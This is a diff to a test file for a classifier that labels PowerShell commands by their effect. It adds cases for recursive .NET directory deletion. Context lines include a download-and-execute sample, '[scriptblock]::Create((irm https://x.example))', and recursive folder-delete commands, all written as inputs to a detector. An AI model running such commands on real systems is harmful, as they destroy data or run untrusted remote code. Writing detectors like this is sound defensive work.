@@ -103,6 +103,15 @@ test.each([
 
 test('.NET is called to remove, and to make code of text', async () => {
   expect(await deeds("[IO.Directory]::Delete('x')")).toEqual(['Removes a folder with everything in it.']);
+  expect(await deeds("[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('x', 'DeleteAllContents')")).toEqual([
+    'Removes a folder with everything in it.',
+  ]);
+  for (const made of ["'obj', $true", '"$PSScriptRoot\\dist", $true'])
+    expect(await deeds(`[System.IO.Directory]::Delete(${made})`)).toEqual([
+      'Removes files that a build or an installation makes again.',
+    ]);
+  for (const other of ["cd C:\\data; [IO.Directory]::Delete('obj', $true)", '[IO.Directory]::Delete("$x\\obj", $true)'])
+    expect(await deeds(other)).toEqual(['Removes a folder with everything in it.']);
   expect(await deeds('[scriptblock]::Create($x)')).toEqual(['Hides the name of the command that it runs.']);
   expect(await deeds('[scriptblock]::Create((irm https://x.example))')).toEqual(['Runs what it downloads.']);
   const { scripts } = (await read("[scriptblock]::Create('ls')")).course;
